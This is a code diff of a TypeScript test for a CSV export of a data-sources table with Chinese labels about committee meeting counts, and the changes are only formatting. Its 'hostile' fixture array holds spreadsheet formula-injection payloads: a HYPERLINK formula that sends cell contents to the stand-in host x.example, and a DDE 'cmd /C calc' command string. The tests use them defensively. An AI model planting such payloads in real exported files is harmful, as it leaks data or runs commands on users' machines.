@@ -35,7 +35,7 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
 
 const rows: SourceRow[] = [
   {
@@ -62,7 +62,16 @@ describe('数据来源附表 CSV and spreadsheet formulas', () => {
   });
 
   it('leaves ordinary text alone', () => {
-    const cells = parseCsv(sourcesCsv([{ ...rows[0], name: '党委会议次数', display: '11次', records: [{ id: 'r1', kind: '会议', date: '2023-01-08', title: '第1次党委会议' }] }]));
+    const cells = parseCsv(
+      sourcesCsv([
+        {
+          ...rows[0],
+          name: '党委会议次数',
+          display: '11次',
+          records: [{ id: 'r1', kind: '会议', date: '2023-01-08', title: '第1次党委会议' }],
+        },
+      ]),
+    );
     expect(cells[1]).toEqual(['党委会议次数', '11次', '2023年', 'r1', '会议', '2023-01-08', '第1次党委会议']);
   });
 });
